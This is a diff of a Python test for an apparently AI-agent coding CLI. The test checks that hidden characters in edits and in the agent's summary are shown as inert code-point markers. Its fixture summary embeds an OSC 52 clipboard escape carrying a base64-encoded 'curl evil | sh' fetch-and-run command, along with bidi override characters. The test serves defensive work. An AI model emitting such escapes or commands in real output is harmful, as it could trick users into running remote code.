@@ -258,8 +258,10 @@ def test_review_shows_bidi_zero_width_and_escape_characters_visibly_and_applies_
     """The CLI diff (`d` in the review, `aether runs show`) shows hidden characters as code-point markers, never raw."""
     edit = trojan_source_edit()
     # The model's summary tries to set the clipboard (OSC 52) and reorder itself: shown inert too.
+    # (A one-subtask run's summary is the agent's own final answer.)
     summary = "All done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \u202esafe\u202c"
-    scripted_server.script = team([Reply(tool_calls=[ToolCallSpec(name="edit_file", arguments=edit)])], summary)
+    scripted_server.script = team([Reply(tool_calls=[ToolCallSpec(name="edit_file", arguments=edit)]),
+                                   Reply(text=summary)])
     services = services_for(demo_repo, scripted_server)
     original = (demo_repo / "app" / "server.py").read_text(encoding="utf-8")
     before = snapshot(demo_repo)
